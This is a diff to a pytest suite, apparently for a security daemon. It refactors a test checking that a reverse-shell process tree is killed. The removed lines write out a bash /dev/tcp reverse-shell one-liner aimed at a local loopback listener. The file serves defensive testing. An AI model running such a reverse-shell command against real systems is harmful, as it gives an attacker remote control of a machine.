@@ -17,7 +17,7 @@ import pytest
 
 from tests.conftest import require_root
 from tests.fixtures.daemon import Daemon, by_pid, daemon
-from tests.fixtures.network import listener, wait_until, write_fake_miner
+from tests.fixtures.network import dev_tcp_shell, listener, wait_until, write_fake_miner
 
 BLOCKED_PORT = 47999
 SITE_RULES = f"""
@@ -83,11 +83,7 @@ def test_detected_miner_is_killed_after_the_alert_is_journaled(
 
 def test_reverse_shell_tree_is_killed(enforcing: Daemon) -> None:
     with listener("127.0.6.7", 0) as attacker:
-        shell = subprocess.Popen(
-            ["bash", "-c", f"bash -i >& /dev/tcp/127.0.6.7/{attacker.port} 0>&1; sleep 30"],
-            stderr=subprocess.DEVNULL,
-            start_new_session=True,
-        )
+        shell = dev_tcp_shell("127.0.6.7", attacker.port, then="sleep 30")
         try:
             assert shell.wait(20) == -signal.SIGKILL
             wait_until(
